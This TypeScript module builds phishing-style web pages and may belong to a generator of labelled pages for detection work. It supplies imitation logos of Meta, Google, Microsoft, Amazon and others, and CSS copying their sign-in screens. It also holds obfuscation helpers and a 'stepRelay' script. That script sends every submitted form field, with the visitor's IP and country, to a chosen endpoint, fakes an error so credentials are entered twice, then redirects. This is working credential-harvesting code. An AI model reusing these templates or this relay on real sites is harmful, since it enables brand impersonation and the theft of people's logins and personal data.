/**
 * Shared furniture for the ys- pages: page shells, brand marks drawn as inline SVG, and a few of the
 * scripts that recur across pages (form relays, copy buttons, step flows). Nothing here decides a
 * page's label; each page file composes these with its own copy.
 */

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
export const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
/** A string as a JS array of char codes, the way packers ship it. */
export const codes = (s: string): string => Array.from(s).map((c) => c.charCodeAt(0)).join(',');
export const rot = (s: string, n: number): string => Array.from(s).map((c) => String.fromCharCode(c.charCodeAt(0) + n)).join('');

export type DocOpts = { title: string; lang?: string; head?: string; css?: string; body: string; bodyAttrs?: string; dir?: string };

export function doc(o: DocOpts): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}"${o.dir ? ` dir="${o.dir}"` : ''}>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${esc(o.title)}</title>
${o.head ?? ''}
${o.css ? `<style>\n${o.css}\n</style>` : ''}
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

// ------------------------------------------------------------------ brand marks

export const MARK = {
  meta: `<svg width="92" height="20" viewBox="0 0 92 20" aria-label="Meta" role="img"><path d="M6.3 4.2c-2.4 0-4.3 3.3-4.3 7 0 2.4 1 4 2.7 4 1.6 0 2.6-1.2 4.4-4.3l1.2-2.1.4-.7c-1.6-2.6-3-3.9-4.4-3.9zm8.7 0c-1.4 0-2.6 1-4 3.1l.6 1 1.3 2.3c1.8 3.2 2.9 4.4 4.5 4.4 1.8 0 2.7-1.7 2.7-4.2 0-3.8-1.9-6.6-5.1-6.6z" fill="#0668E1"/><text x="24" y="15" font-family="Helvetica,Arial" font-size="15" font-weight="700" fill="#1c2b33">Meta</text></svg>`,
  facebook: `<svg width="40" height="40" viewBox="0 0 40 40" aria-label="Facebook" role="img"><circle cx="20" cy="20" r="20" fill="#0866FF"/><path d="M22 31V21.6h3.1l.5-3.7H22v-2.3c0-1.1.3-1.8 1.8-1.8h1.9v-3.3c-.3 0-1.5-.1-2.8-.1-2.8 0-4.7 1.7-4.7 4.8v2.7h-3.1v3.7h3.1V31z" fill="#fff"/></svg>`,
  facebookWord: `<svg width="200" height="44" viewBox="0 0 200 44" aria-label="facebook" role="img"><text x="0" y="34" font-family="Helvetica,Arial" font-size="40" font-weight="700" fill="#0866FF" letter-spacing="-1">facebook</text></svg>`,
  instagram: `<svg width="40" height="40" viewBox="0 0 40 40" aria-label="Instagram" role="img"><defs><linearGradient id="igg" x1="0" y1="1" x2="1" y2="0"><stop offset="0" stop-color="#feda75"/><stop offset=".35" stop-color="#fa7e1e"/><stop offset=".6" stop-color="#d62976"/><stop offset=".8" stop-color="#962fbf"/><stop offset="1" stop-color="#4f5bd5"/></linearGradient></defs><rect width="40" height="40" rx="11" fill="url(#igg)"/><rect x="9" y="9" width="22" height="22" rx="7" fill="none" stroke="#fff" stroke-width="2.6"/><circle cx="20" cy="20" r="5.2" fill="none" stroke="#fff" stroke-width="2.6"/><circle cx="27" cy="13" r="1.6" fill="#fff"/></svg>`,
  google: `<svg width="75" height="24" viewBox="0 0 75 24" aria-label="Google" role="img"><text y="19" font-family="Product Sans,Arial" font-size="22"><tspan fill="#4285F4">G</tspan><tspan fill="#EA4335">o</tspan><tspan fill="#FBBC05">o</tspan><tspan fill="#4285F4">g</tspan><tspan fill="#34A853">l</tspan><tspan fill="#EA4335">e</tspan></text></svg>`,
  googleG: `<svg width="48" height="48" viewBox="0 0 48 48" aria-hidden="true"><path fill="#EA4335" d="M24 9.5c3.5 0 6.6 1.2 9.1 3.6l6.8-6.8C35.8 2.4 30.3 0 24 0 14.6 0 6.6 5.4 2.6 13.3l7.9 6.1C12.4 13.7 17.7 9.5 24 9.5z"/><path fill="#4285F4" d="M46.1 24.5c0-1.6-.1-3.1-.4-4.5H24v9h12.4c-.5 2.9-2.2 5.3-4.6 7l7.2 5.6c4.2-3.9 7.1-9.7 7.1-17.1z"/><path fill="#FBBC05" d="M10.5 28.6c-.5-1.4-.8-3-.8-4.6s.3-3.2.8-4.6l-7.9-6.1C.9 16.6 0 20.2 0 24s.9 7.4 2.6 10.7l7.9-6.1z"/><path fill="#34A853" d="M24 48c6.5 0 11.9-2.1 15.9-5.8l-7.2-5.6c-2.2 1.5-5.1 2.4-8.7 2.4-6.3 0-11.6-4.2-13.5-10l-7.9 6.1C6.6 42.6 14.6 48 24 48z"/></svg>`,
  googleAds: `<svg width="36" height="32" viewBox="0 0 36 32" aria-label="Google Ads" role="img"><path d="M13 2 2 21a5 5 0 0 0 8.7 5L21.7 7A5 5 0 0 0 13 2z" fill="#FBBC04"/><path d="M23 2a5 5 0 0 0-1.8 6.8l11 19a5 5 0 1 0 8.7-5l-11-19A5 5 0 0 0 23 2z" fill="#4285F4" transform="translate(-6 0)"/><circle cx="6.5" cy="24.5" r="5" fill="#34A853"/></svg>`,
  tiktok: `<svg width="118" height="30" viewBox="0 0 118 30" aria-label="TikTok" role="img"><path d="M17 3h4c.3 2.6 2 4.6 4.8 4.9v4c-1.8 0-3.4-.5-4.8-1.4v7.7c0 4-3.1 6.8-6.9 6.8-3.9 0-6.9-3-6.9-6.8 0-4.3 3.8-7.4 8-6.7v4.1c-2-.6-4 .8-4 2.7 0 1.6 1.3 2.9 2.9 2.9 1.7 0 3-1.3 3-3.2z" fill="#000"/><path d="M15.6 1.7h4c.3 2.6 2 4.6 4.8 4.9v4" fill="none" stroke="#25F4EE" stroke-width=".8"/><text x="32" y="21" font-family="Helvetica,Arial" font-size="17" font-weight="700" fill="#000">TikTok</text></svg>`,
  linkedin: `<svg width="102" height="26" viewBox="0 0 102 26" aria-label="LinkedIn" role="img"><text x="0" y="20" font-family="Helvetica,Arial" font-size="21" font-weight="700" fill="#0A66C2">Linked</text><rect x="69" y="1" width="24" height="24" rx="4" fill="#0A66C2"/><text x="72.5" y="20" font-family="Helvetica,Arial" font-size="19" font-weight="700" fill="#fff">in</text></svg>`,
  amazon: `<svg width="104" height="32" viewBox="0 0 104 32" aria-label="amazon" role="img"><text x="0" y="21" font-family="Arial" font-size="24" font-weight="700" fill="#111">amazon</text><path d="M6 25c14 7 34 7 48 0" fill="none" stroke="#FF9900" stroke-width="3" stroke-linecap="round"/><path d="M50 22l5 3-4 4" fill="none" stroke="#FF9900" stroke-width="2.6" stroke-linecap="round"/></svg>`,
  shopify: `<svg width="120" height="34" viewBox="0 0 120 34" aria-label="Shopify" role="img"><path d="M20 5c-.2 0-3.3-.2-3.3-.2L14.4 2.6C14.2 2.4 13.8 2.5 13.7 2.5L12.6 2.9C12 1.2 10.9 0 9.3 0h-.1C8.7-.6 8 0 7.5 0 3.8 0 2 4.6 1.4 7L0 31.3 15.6 34l8.4-1.8S20.2 5.3 20 5z" fill="#95BF47"/><path d="M9.5 13.7l-1 3c0 0-.9-.5-2-.5-1.6 0-1.7 1-1.7 1.3 0 1.4 3.6 1.9 3.6 5.1 0 2.5-1.6 4.1-3.8 4.1-2.6 0-3.9-1.6-3.9-1.6l.7-2.3s1.4 1.2 2.5 1.2c.8 0 1.1-.6 1.1-1 0-1.8-3-1.9-3-4.8 0-2.5 1.8-4.9 5.3-4.9 1.4 0 2.1.4 2.1.4z" fill="#fff"/><text x="30" y="24" font-family="Helvetica,Arial" font-size="20" font-weight="700" fill="#000">shopify</text></svg>`,
  etsy: `<svg width="64" height="32" viewBox="0 0 64 32" aria-label="Etsy" role="img"><text x="0" y="26" font-family="Guardian-EgypTT,Georgia,serif" font-size="30" fill="#F1641E">Etsy</text></svg>`,
  ebay: `<svg width="96" height="38" viewBox="0 0 96 38" aria-label="eBay" role="img"><text y="30" font-family="Helvetica,Arial" font-size="36" font-weight="700" letter-spacing="-2"><tspan fill="#E53238">e</tspan><tspan fill="#0064D2">b</tspan><tspan fill="#F5AF02">a</tspan><tspan fill="#86B817">y</tspan></text></svg>`,
  microsoft: `<svg width="108" height="24" viewBox="0 0 108 24" aria-label="Microsoft" role="img"><rect width="10.8" height="10.8" fill="#F25022"/><rect x="12" width="10.8" height="10.8" fill="#7FBA00"/><rect y="12" width="10.8" height="10.8" fill="#00A4EF"/><rect x="12" y="12" width="10.8" height="10.8" fill="#FFB900"/><text x="30" y="17" font-family="Segoe UI,Arial" font-size="16" font-weight="600" fill="#737373">Microsoft</text></svg>`,
  canva: `<svg width="90" height="32" viewBox="0 0 90 32" aria-label="Canva" role="img"><text x="0" y="25" font-family="Georgia,serif" font-style="italic" font-size="28" font-weight="700" fill="#7D2AE8">Canva</text></svg>`,
  godaddy: `<svg width="120" height="30" viewBox="0 0 120 30" aria-label="GoDaddy" role="img"><text x="0" y="22" font-family="Arial" font-size="22" font-weight="700" fill="#111">GoDaddy</text></svg>`,
} as const;

// ------------------------------------------------------------------ CSS fragments

export const CSS = {
  reset: `*,*::before,*::after{box-sizing:border-box}html,body{margin:0;padding:0}img,svg{vertical-align:middle}a{color:inherit}`,
  meta: `body{font-family:Optimistic,-apple-system,BlinkMacSystemFont,"Segoe UI",Helvetica,Arial,sans-serif;background:#f0f2f5;color:#1c2b33}
.card{background:#fff;border-radius:12px;box-shadow:0 2px 4px rgba(0,0,0,.1),0 8px 16px rgba(0,0,0,.1);padding:24px;max-width:560px;margin:32px auto}
.btn{display:block;width:100%;border:0;border-radius:6px;background:#0866FF;color:#fff;font-size:17px;font-weight:600;padding:12px;cursor:pointer}
.btn:disabled{opacity:.6}
.inp{width:100%;border:1px solid #dddfe2;border-radius:6px;padding:13px 14px;font-size:16px;margin:6px 0 10px}
.inp:focus{outline:none;border-color:#0866FF;box-shadow:0 0 0 2px #e7f3ff}
.muted{color:#65676b;font-size:14px}
label{font-size:14px;font-weight:600}`,
  google: `body{font-family:"Google Sans",Roboto,Arial,sans-serif;background:#f0f4f9;color:#1f1f1f}
.box{background:#fff;border-radius:28px;max-width:1040px;margin:60px auto;padding:36px;display:flex;gap:40px;flex-wrap:wrap}
.box>div{flex:1 1 360px}
h1{font-weight:400;font-size:36px;margin:18px 0 12px}
.f{position:relative;margin:8px 0 20px}
.f input{width:100%;height:56px;border:1px solid #747775;border-radius:4px;font-size:16px;padding:0 15px}
.f input:focus{outline:none;border:2px solid #0b57d0}
.act{display:flex;justify-content:flex-end;gap:10px;margin-top:36px}
.pri{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-weight:500;font-size:14px;cursor:pointer}
.lnk{color:#0b57d0;font-weight:500;font-size:14px;text-decoration:none;background:none;border:0;cursor:pointer}`,
  article: `body{font-family:Georgia,"Times New Roman",serif;color:#222;background:#fff;line-height:1.65}
header.site,footer.site{font-family:Helvetica,Arial,sans-serif}
main{max-width:760px;margin:0 auto;padding:24px 20px 60px}
h1{font-size:34px;line-height:1.2}
h2{font-family:Helvetica,Arial,sans-serif;font-size:22px;margin-top:36px}
pre,code{font-family:Consolas,Menlo,monospace;font-size:14px}
pre{background:#f6f6f4;border:1px solid #e4e4e0;padding:12px 14px;overflow:auto;white-space:pre-wrap}
blockquote{border-left:4px solid #d9d9d4;margin:16px 0;padding:4px 16px;color:#444;background:#fafaf8}
figure{margin:20px 0}figcaption{font-size:13px;color:#666}`,
} as const;

// ------------------------------------------------------------------ scripts shared by pages

/**
 * The relay script of the step-by-step kits: each <section data-step> is shown in turn, its fields are
 * posted to `endpoint` with the visitor's IP/country, and the last step shows `done` or redirects.
 */
export function stepRelay(o: { endpoint: string; finalUrl?: string; ipApi?: string; bodyType?: 'form' | 'json'; extra?: string; delayMs?: number }): string {
  const post =
    o.bodyType === 'json'
      ? `fetch(EP,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(data)})`
      : `(function(){var fd=new FormData();for(var k in data){fd.append(k,data[k])}return fetch(EP,{method:'POST',body:fd})})()`;
  return `<script>
(function(){
  var EP=${JSON.stringify(o.endpoint)};
  var info={ip:'',cc:'',ua:navigator.userAgent};
  try{fetch(${JSON.stringify(o.ipApi ?? 'https://ipapi.co/json/')}).then(function(r){return r.json()}).then(function(j){info.ip=j.ip||'';info.cc=j.country_name||j.country||''}).catch(function(){})}catch(e){}
  var steps=[].slice.call(document.querySelectorAll('[data-step]'));
  var i=0, sid=Math.random().toString(36).slice(2,10), tries=0;
  function show(n){steps.forEach(function(s,k){s.style.display=k===n?'block':'none'})}
  show(0);
  steps.forEach(function(s){
    var f=s.querySelector('form');if(!f)return;
    f.addEventListener('submit',function(ev){
      ev.preventDefault();
      var data={sid:sid,step:s.getAttribute('data-step'),ip:info.ip,country:info.cc,ua:info.ua};
      [].forEach.call(f.elements,function(el){if(el.name&&el.type!=='file')data[el.name]=el.value});
      var b=f.querySelector('button[type=submit],button:not([type])');if(b){b.disabled=true}
      ${o.extra ?? ''}
      ${post}.catch(function(){}).then(function(){
        setTimeout(function(){
          if(b){b.disabled=false}
          if(s.hasAttribute('data-retry')&&tries<1){tries++;var e=s.querySelector('.err');if(e)e.style.display='block';f.reset();return}
          tries=0;i++;
          if(i<steps.length){show(i)}else{${o.finalUrl ? `location.replace(${JSON.stringify(o.finalUrl)})` : ''}}
        },${o.delayMs ?? 1200});
      });
    });
  });
})();
</script>`;
}

/** A copy-to-clipboard button handler; used by docs pages and by others. */
export function copyButtons(selector = '[data-copy]'): string {
  return `<script>
document.querySelectorAll(${JSON.stringify(selector)}).forEach(function(b){
  b.addEventListener('click',function(){
    var t=document.getElementById(b.getAttribute('data-copy'));
    var text=t?t.textContent:'';
    navigator.clipboard.writeText(text).then(function(){var o=b.textContent;b.textContent='Copied';setTimeout(function(){b.textContent=o},1500)});
  });
});
</script>`;
}

/** Footer links of a Meta-styled page. */
export function metaFooter(lang = 'en'): string {
  const words: Record<string, string[]> = {
    en: ['Privacy Policy', 'Terms', 'Advertising', 'Ad choices', 'Cookies', 'Help'],
    vi: ['Quyền riêng tư', 'Điều khoản', 'Quảng cáo', 'Lựa chọn quảng cáo', 'Cookie', 'Trợ giúp'],
    pt: ['Política de Privacidade', 'Termos', 'Publicidade', 'Escolhas para anúncios', 'Cookies', 'Ajuda'],
    it: ['Informativa sulla privacy', 'Condizioni', 'Pubblicità', 'Scegli le inserzioni', 'Cookie', 'Assistenza'],
    th: ['นโยบายความเป็นส่วนตัว', 'ข้อกำหนด', 'การโฆษณา', 'ตัวเลือกโฆษณา', 'คุกกี้', 'ความช่วยเหลือ'],
  };
  const w = words[lang] ?? words.en!;
  return `<footer style="max-width:980px;margin:40px auto 20px;padding:0 16px;color:#8a8d91;font-size:12px">${w.map((x) => `<a href="#" style="color:#8a8d91;text-decoration:none;margin-right:12px">${x}</a>`).join('')}<div style="margin-top:8px">Meta © 2025</div></footer>`;
}

/** A plain site header + footer for blogs and company sites. */
export function siteShell(o: { name: string; color: string; nav: string[]; body: string; foot?: string; logo?: string }): string {
  return `<header class="site" style="border-bottom:1px solid #e6e6e6;background:#fff">
<div style="max-width:1100px;margin:0 auto;padding:14px 20px;display:flex;align-items:center;gap:28px;font-family:Helvetica,Arial,sans-serif">
<a href="/" style="text-decoration:none;font-weight:800;font-size:20px;color:${o.color}">${o.logo ?? esc(o.name)}</a>
<nav style="display:flex;gap:18px;font-size:14px">${o.nav.map((n) => `<a href="/${n.toLowerCase().replace(/[^a-z0-9]+/g, '-')}" style="text-decoration:none;color:#333">${esc(n)}</a>`).join('')}</nav>
</div></header>
${o.body}
<footer class="site" style="background:#111;color:#bbb;font-size:13px;margin-top:60px">
<div style="max-width:1100px;margin:0 auto;padding:28px 20px">${o.foot ?? `© 2025 ${esc(o.name)}. All rights reserved.`}</div></footer>`;
}

/** A tracking/analytics snippet the way marketing sites carry one (first-party collector path). */
export function analytics(id: string, collector = '/collect'): string {
  return `<script>
window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}
gtag('js',new Date());gtag('config',${JSON.stringify(id)});
(function(){try{var p={t:'pageview',dl:location.href,dt:document.title,sr:screen.width+'x'+screen.height,ul:navigator.language};navigator.sendBeacon&&navigator.sendBeacon(${JSON.stringify(collector)},JSON.stringify(p))}catch(e){}})();
</script>`;
}
